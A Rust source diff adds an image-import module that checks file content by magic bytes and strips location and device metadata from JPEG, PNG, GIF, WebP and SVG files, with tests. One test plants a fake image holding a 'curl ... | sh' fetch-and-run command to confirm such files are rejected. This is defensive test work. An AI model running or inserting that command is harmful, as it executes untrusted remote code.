@@ -0,0 +1,352 @@
+use super::atomic_file::write_atomic_blocking;
+use crate::{Result, TradocumentError};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+/// How images are cleaned when they are imported
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct ImageImportOptions {
+    /// Remove EXIF, XMP, IPTC and text metadata, which can hold GPS
+    /// positions, device names and user paths. Orientation stored in EXIF
+    /// is lost with it.
+    pub strip_metadata: bool,
+}
+
+impl Default for ImageImportOptions {
+    fn default() -> Self {
+        Self { strip_metadata: true }
+    }
+}
+
+/// Image formats imports accept, recognized by their content
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum ImageKind {
+    Png,
+    Jpeg,
+    Gif,
+    WebP,
+    Svg,
+}
+
+impl ImageKind {
+    /// Format of `bytes` by their magic bytes, `None` for anything else
+    pub fn detect(bytes: &[u8]) -> Option<Self> {
+        if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
+            Some(ImageKind::Png)
+        } else if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
+            Some(ImageKind::Jpeg)
+        } else if bytes.starts_with(b"GIF87a") || bytes.starts_with(b"GIF89a") {
+            Some(ImageKind::Gif)
+        } else if bytes.len() >= 12 && bytes.starts_with(b"RIFF") && &bytes[8..12] == b"WEBP" {
+            Some(ImageKind::WebP)
+        } else if is_svg(bytes) {
+            Some(ImageKind::Svg)
+        } else {
+            None
+        }
+    }
+
+    /// File extension for images of this format
+    pub fn extension(self) -> &'static str {
+        match self {
+            ImageKind::Png => "png",
+            ImageKind::Jpeg => "jpg",
+            ImageKind::Gif => "gif",
+            ImageKind::WebP => "webp",
+            ImageKind::Svg => "svg",
+        }
+    }
+
+    fn name(self) -> &'static str {
+        match self {
+            ImageKind::Png => "PNG",
+            ImageKind::Jpeg => "JPEG",
+            ImageKind::Gif => "GIF",
+            ImageKind::WebP => "WebP",
+            ImageKind::Svg => "SVG",
+        }
+    }
+}
+
+/// Whether `bytes` are SVG markup: text opening with a tag, comment or XML
+/// declaration that has an `<svg` element
+fn is_svg(bytes: &[u8]) -> bool {
+    let prefix = &bytes[..bytes.len().min(4096)];
+    let text = match std::str::from_utf8(prefix) {
+        Ok(text) => text,
+        // A character cut in two by the end of the prefix is still text
+        Err(e) if e.error_len().is_none() => std::str::from_utf8(&prefix[..e.valid_up_to()]).unwrap_or_default(),
+        Err(_) => return false,
+    };
+    let text = text.trim_start_matches('\u{FEFF}').trim_start();
+    text.starts_with('<') && text.contains("<svg")
+}
+
+/// Check that `bytes` are an image and, unless `options` say otherwise,
+/// remove their metadata. Pixel data is copied as it is, never re-encoded.
+/// `name` is the file name errors mention.
+pub fn sanitize_image(bytes: &[u8], name: &str, options: &ImageImportOptions) -> Result<Vec<u8>> {
+    let kind = ImageKind::detect(bytes).ok_or_else(|| {
+        TradocumentError::UnsupportedFormat(format!(
+            "{name} is not an image: its content is not PNG, JPEG, GIF, WebP or SVG"
+        ))
+    })?;
+    if !options.strip_metadata {
+        return Ok(bytes.to_vec());
+    }
+
+    let stripped = match kind {
+        ImageKind::Png => strip_png(bytes),
+        ImageKind::Jpeg => strip_jpeg(bytes),
+        ImageKind::Gif => strip_gif(bytes),
+        ImageKind::WebP => strip_webp(bytes),
+        ImageKind::Svg => Some(strip_svg(bytes)),
+    };
+    stripped.ok_or_else(|| TradocumentError::UnsupportedFormat(format!("{name} is a damaged {} image", kind.name())))
+}
+
+/// Copy the image at `source` into `target_dir` under its file name,
+/// sanitized by [`sanitize_image`], and return where it was written
+pub fn import_image(source: &Path, target_dir: &Path, options: &ImageImportOptions) -> Result<PathBuf> {
+    let name = source
+        .file_name()
+        .ok_or_else(|| TradocumentError::Validation(format!("{} is not a file", source.display())))?;
+    let sanitized = sanitize_image(&std::fs::read(source)?, &name.to_string_lossy(), options)?;
+    std::fs::create_dir_all(target_dir)?;
+    let target = target_dir.join(name);
+    write_atomic_blocking(&target, &sanitized)?;
+    Ok(target)
+}
+
+/// JPEG without its APP1 (EXIF, XMP), APP13 (IPTC) and comment segments
+fn strip_jpeg(bytes: &[u8]) -> Option<Vec<u8>> {
+    let mut stripped = bytes[..2].to_vec();
+    let mut pos = 2;
+    loop {
+        if *bytes.get(pos)? != 0xFF {
+            return None;
+        }
+        let marker = *bytes.get(pos + 1)?;
+        match marker {
+            // Fill byte before a marker
+            0xFF => pos += 1,
+            // Start of scan or end of image: the rest is image data
+            0xDA | 0xD9 => {
+                stripped.extend_from_slice(&bytes[pos..]);
+                return Some(stripped);
+            }
+            0x01 | 0xD0..=0xD7 => {
+                stripped.extend_from_slice(&bytes[pos..pos + 2]);
+                pos += 2;
+            }
+            _ => {
+                let length = usize::from(u16::from_be_bytes([*bytes.get(pos + 2)?, *bytes.get(pos + 3)?]));
+                let end = pos + 2 + length;
+                let segment = bytes.get(pos..end)?;
+                if !matches!(marker, 0xE1 | 0xED | 0xFE) {
+                    stripped.extend_from_slice(segment);
+                }
+                pos = end;
+            }
+        }
+    }
+}
+
+/// PNG without its EXIF, text (which holds XMP) and time chunks
+fn strip_png(bytes: &[u8]) -> Option<Vec<u8>> {
+    let mut stripped = bytes[..8].to_vec();
+    let mut pos = 8;
+    while pos < bytes.len() {
+        let length = u32::from_be_bytes(bytes.get(pos..pos + 4)?.try_into().ok()?) as usize;
+        let chunk_type = bytes.get(pos + 4..pos + 8)?;
+        let end = pos + 12 + length;
+        let chunk = bytes.get(pos..end)?;
+        if !matches!(chunk_type, b"eXIf" | b"tEXt" | b"zTXt" | b"iTXt" | b"tIME") {
+            stripped.extend_from_slice(chunk);
+        }
+        pos = end;
+        if chunk_type == b"IEND" {
+            break;
+        }
+    }
+    Some(stripped)
+}
+
+/// WebP without its EXIF and XMP chunks, with the extended header's flags
+/// for them cleared
+fn strip_webp(bytes: &[u8]) -> Option<Vec<u8>> {
+    const EXIF_FLAG: u8 = 0x08;
+    const XMP_FLAG: u8 = 0x04;
+    let riff_end = (8 + u32::from_le_bytes(bytes.get(4..8)?.try_into().ok()?) as usize).min(bytes.len());
+    let mut stripped = bytes[..12].to_vec();
+    let mut pos = 12;
+    while pos + 8 <= riff_end {
+        let fourcc = &bytes[pos..pos + 4];
+        let size = u32::from_le_bytes(bytes[pos + 4..pos + 8].try_into().ok()?) as usize;
+        // Chunks are padded to an even size
+        let end = pos + 8 + size + size % 2;
+        let chunk = bytes.get(pos..end.min(riff_end))?;
+        match fourcc {
+            b"EXIF" | b"XMP " => {}
+            b"VP8X" => {
+                let mut chunk = chunk.to_vec();
+                *chunk.get_mut(8)? &= !(EXIF_FLAG | XMP_FLAG);
+                stripped.extend_from_slice(&chunk);
+            }
+            _ => stripped.extend_from_slice(chunk),
+        }
+        pos = end;
+    }
+    let riff_size = u32::try_from(stripped.len() - 8).ok()?;
+    stripped[4..8].copy_from_slice(&riff_size.to_le_bytes());
+    Some(stripped)
+}
+
+/// GIF without its comment and XMP application extensions
+fn strip_gif(bytes: &[u8]) -> Option<Vec<u8>> {
+    /// Position after the data sub-blocks starting at `pos`
+    fn skip_sub_blocks(bytes: &[u8], mut pos: usize) -> Option<usize> {
+        loop {
+            let size = usize::from(*bytes.get(pos)?);
+            pos += 1 + size;
+            if size == 0 {
+                return Some(pos);
+            }
+        }
+    }
+    /// Size in bytes of the color table a packed field announces
+    fn color_table_size(packed: u8) -> usize {
+        if packed & 0x80 == 0 {
+            0
+        } else {
+            3 << ((packed & 0x07) + 1)
+        }
+    }
+
+    let mut pos = 13 + color_table_size(*bytes.get(10)?);
+    let mut stripped = bytes.get(..pos)?.to_vec();
+    loop {
+        let start = pos;
+        match *bytes.get(pos)? {
+            // Trailer
+            0x3B => {
+                stripped.push(0x3B);
+                return Some(stripped);
+            }
+            0x21 => {
+                let label = *bytes.get(pos + 1)?;
+                pos = skip_sub_blocks(bytes, pos + 2)?;
+                let xmp = label == 0xFF && bytes.get(start + 3..start + 11) == Some(b"XMP Data");
+                if label != 0xFE && !xmp {
+                    stripped.extend_from_slice(&bytes[start..pos]);
+                }
+            }
+            0x2C => {
+                let packed = *bytes.get(pos + 9)?;
+                // Descriptor, local color table and LZW code size, then the image data
+                pos = skip_sub_blocks(bytes, pos + 10 + color_table_size(packed) + 1)?;
+                stripped.extend_from_slice(bytes.get(start..pos)?);
+            }
+            _ => return None,
+        }
+    }
+}
+
+fn svg_metadata_regex() -> &'static Regex {
+    static SVG_METADATA: OnceLock<Regex> = OnceLock::new();
+    SVG_METADATA.get_or_init(|| {
+        Regex::new(r#"(?s)<metadata\b[^>]*/>|<metadata\b.*?</metadata>|\s(?:sodipodi:docname|inkscape:export-filename)="[^"]*""#)
+            .expect("valid SVG metadata regex")
+    })
+}
+
+/// SVG without its `<metadata>` elements, which hold RDF and XMP, and the
+/// editor attributes naming files on the author's machine
+fn strip_svg(bytes: &[u8]) -> Vec<u8> {
+    let text = String::from_utf8_lossy(bytes);
+    svg_metadata_regex().replace_all(&text, "").into_owned().into_bytes()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use image::codecs::jpeg::JpegEncoder;
+    use image::{GenericImageView, Rgb, RgbImage};
+    use tempfile::TempDir;
+
+    /// EXIF data with a GPS latitude of 52° 22' 12"
+    fn exif_with_gps() -> Vec<u8> {
+        let mut tiff = b"MM\x00\x2A\x00\x00\x00\x08".to_vec();
+        // IFD0: one entry pointing at the GPS IFD
+        tiff.extend_from_slice(&[0x00, 0x01, 0x88, 0x25, 0x00, 0x04, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x1A]);
+        tiff.extend_from_slice(&[0; 4]);
+        // GPS IFD: the latitude, three rationals
+        tiff.extend_from_slice(&[0x00, 0x01, 0x00, 0x02, 0x00, 0x05, 0x00, 0x00, 0x00, 0x03, 0x00, 0x00, 0x00, 0x2C]);
+        tiff.extend_from_slice(&[0; 4]);
+        for (numerator, denominator) in [(52u32, 1u32), (22, 1), (12, 1)] {
+            tiff.extend_from_slice(&numerator.to_be_bytes());
+            tiff.extend_from_slice(&denominator.to_be_bytes());
+        }
+
+        let mut segment = vec![0xFF, 0xE1];
+        segment.extend_from_slice(&((tiff.len() + 8) as u16).to_be_bytes());
+        segment.extend_from_slice(b"Exif\x00\x00");
+        segment.extend_from_slice(&tiff);
+        segment
+    }
+
+    #[test]
+    fn test_exif_gps_removed_on_import() {
+        let temp_dir = TempDir::new().unwrap();
+        let mut jpeg = Vec::new();
+        let photo = RgbImage::from_fn(64, 48, |x, y| Rgb([(x * 4) as u8, (y * 5) as u8, 120]));
+        photo.write_with_encoder(JpegEncoder::new(&mut jpeg)).unwrap();
+        // EXIF goes right after the start of image marker
+        let exif = exif_with_gps();
+        jpeg.splice(2..2, exif.iter().copied());
+        let source = temp_dir.path().join("bell-tower.jpg");
+        std::fs::write(&source, &jpeg).unwrap();
+
+        let imported = import_image(&source, &temp_dir.path().join("screenshots"), &ImageImportOptions::default()).unwrap();
+        let sanitized = std::fs::read(&imported).unwrap();
+        assert!(!sanitized.windows(4).any(|window| window == b"Exif"));
+        assert_eq!(sanitized.len(), jpeg.len() - exif.len());
+        assert_eq!(image::load_from_memory(&sanitized).unwrap().dimensions(), (64, 48));
+
+        // Opting out keeps the file as it was
+        let kept = sanitize_image(&jpeg, "bell-tower.jpg", &ImageImportOptions { strip_metadata: false }).unwrap();
+        assert_eq!(kept, jpeg);
+
+        let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" sodipodi:docname="/home/anna/panel.svg"><metadata><rdf:RDF/></metadata><rect/></svg>"#;
+        let sanitized = sanitize_image(svg, "panel.svg", &ImageImportOptions::default()).unwrap();
+        assert_eq!(sanitized, br#"<svg xmlns="http://www.w3.org/2000/svg"><rect/></svg>"#);
+    }
+
+    #[test]
+    fn test_svg_with_character_across_sniffed_prefix_accepted() {
+        let mut svg = String::from("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>");
+        svg.push_str(&"a".repeat(4095 - svg.len()));
+        // Starts at byte 4095, so the sniffed prefix ends inside it
+        svg.push_str("é</title><rect/></svg>");
+
+        assert_eq!(ImageKind::detect(svg.as_bytes()), Some(ImageKind::Svg));
+        assert!(sanitize_image(svg.as_bytes(), "long.svg", &ImageImportOptions::default()).is_ok());
+    }
+
+    #[test]
+    fn test_non_image_with_png_extension_rejected() {
+        let temp_dir = TempDir::new().unwrap();
+        let source = temp_dir.path().join("invoice.png");
+        std::fs::write(&source, "#!/bin/sh\ncurl https://example.com/payload | sh\n").unwrap();
+
+        let error = import_image(&source, &temp_dir.path().join("screenshots"), &ImageImportOptions::default()).unwrap_err();
+        assert!(matches!(error, TradocumentError::UnsupportedFormat(_)));
+        assert!(error.to_string().contains("invoice.png is not an image"));
+        assert!(!temp_dir.path().join("screenshots/invoice.png").exists());
+
+        // A PNG that ends early is refused too
+        assert!(sanitize_image(b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0DIHDR", "cut.png", &ImageImportOptions::default()).is_err());
+    }
+}